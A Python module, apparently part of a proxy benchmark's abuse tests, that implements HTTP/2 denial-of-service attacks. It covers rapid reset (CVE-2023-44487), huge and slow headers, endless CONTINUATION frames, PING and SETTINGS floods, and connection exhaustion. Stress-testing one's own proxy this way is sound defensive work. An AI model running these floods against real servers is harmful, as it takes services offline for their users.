"""Abuse by HTTP/2 itself: frames, headers and connections that no gRPC library sends."""

import socket
import time
from contextlib import suppress
from itertools import count

from bench.abuse import frames
from bench.abuse.client import abusing, again_and_again, request, settle
from bench.abuse.frames import frame, headers_frame

CHUNK = 16_384


def rapid_resets(address: str) -> None:
    """Abuse the proxy at `address`: calls that are reset at once (CVE-2023-44487)."""

    def data(number: int) -> bytes:
        first = 200 * number + 1
        return b"".join(
            headers_frame(stream, frames.REQUEST, last=True)
            + frame(frames.RST_STREAM, stream, (8).to_bytes(4, "big"))
            for stream in range(first, first + 200, 2)
        )

    again_and_again(address, data, rest=0.001)


def large_headers(address: str) -> None:
    """Abuse the proxy at `address`: calls with 100 KB of headers, 50 a second."""
    fragments = [
        frames.header_block(
            request("Get", (b"x-large", bytes([65]) * 60_000), (b"x-more", bytes([66]) * 40_000))
        )
    ]

    def data(number: int) -> bytes:
        stream, block = 2 * number + 1, fragments[0]
        parts = [block[begin : begin + CHUNK] for begin in range(0, len(block), CHUNK)]
        sent = frame(frames.HEADERS, stream, parts[0], 0)
        for index, part in enumerate(parts[1:], 2):
            sent += frame(frames.CONTINUATION, stream, part, frames.END_HEADERS if index == len(parts) else 0)
        return sent + frame(frames.DATA, stream, frames.GRPC_MESSAGE, frames.END_STREAM)

    again_and_again(address, data, rest=0.02)


def slow_headers(address: str) -> None:
    """Abuse the proxy at `address`: 200 connections whose headers arrive byte by byte."""
    opened = [frames.connected(address) for _ in range(200)]
    for connection in opened:
        connection.sendall(frame(frames.HEADERS, 1, frames.header_block(frames.REQUEST[:1]), 0))
    block = frames.header_block(((b"x-slow", b"slow"),))
    while True:
        for connection in opened:
            with suppress(OSError):
                connection.sendall(frame(frames.CONTINUATION, 1, block))
        time.sleep(0.5)
        abusing()


def pings(address: str) -> None:
    """Abuse the proxy at `address`: PINGs."""
    many = frame(frames.PING, payload=bytes(8)) * 100
    again_and_again(address, lambda _: many, rest=0.001)


def unread_pings(address: str) -> None:
    """Abuse the proxy at `address`: PINGs whose answers nobody reads."""
    many = frame(frames.PING, payload=bytes(8)) * 100
    again_and_again(address, lambda _: many, read=False, rest=0.001)


def settings(address: str) -> None:
    """Abuse the proxy at `address`: SETTINGS that change the window of 100 calls."""

    def data(number: int) -> bytes:
        if number == 0:
            return b"".join(headers_frame(2 * each + 1, request("Wait")) for each in range(100))
        return b"".join(
            frame(frames.SETTINGS, payload=(4).to_bytes(2, "big") + size.to_bytes(4, "big"))
            for size in range(1000, 1020)
        )

    again_and_again(address, data, rest=0.001)


def continuations(address: str) -> None:
    """Abuse the proxy at `address`: headers that never end (CONTINUATION)."""

    def data(number: int) -> bytes:
        if number == 0:
            return frame(frames.HEADERS, 1, frames.header_block(frames.REQUEST), 0)
        return frame(frames.CONTINUATION, 1, frames.header_block(((b"x-%d" % number, bytes([65]) * 8000),)))

    again_and_again(address, data, rest=0.001)


def empty_data(address: str) -> None:
    """Abuse the proxy at `address`: DATA frames without data, and WINDOW_UPDATEs of one byte."""

    def data(number: int) -> bytes:
        if number == 0:
            return headers_frame(1, request("Wait"))
        update = frame(frames.WINDOW_UPDATE, 1, (1).to_bytes(4, "big"))
        return (frame(frames.DATA, 1) + update) * 50

    again_and_again(address, data, rest=0.001)


def half_open(address: str) -> None:
    """Abuse the proxy at `address`: 200 connections that send nothing."""
    settle([socket.create_connection((address, 50051)) for _ in range(200)])


def garbage(address: str) -> None:
    """Abuse the proxy at `address`: connections that send garbage, 200 a second."""
    block = bytes(range(256)) * 16
    for number in count():
        with suppress(OSError), socket.create_connection((address, 50051)) as connection:
            connection.sendall((frames.PREFACE if number % 2 else b"") + block)
        if number == 20:
            abusing()
        time.sleep(0.005)


def connections(address: str) -> None:
    """Abuse the proxy at `address`: 1,200 connections, closed and opened again."""
    opened: list[socket.socket] = []
    for number in count():
        with suppress(OSError):
            opened.append(frames.connected(address))
        if number == 1200:
            abusing()
        if len(opened) > 1200:
            opened.pop(0).close()
        time.sleep(0.001)
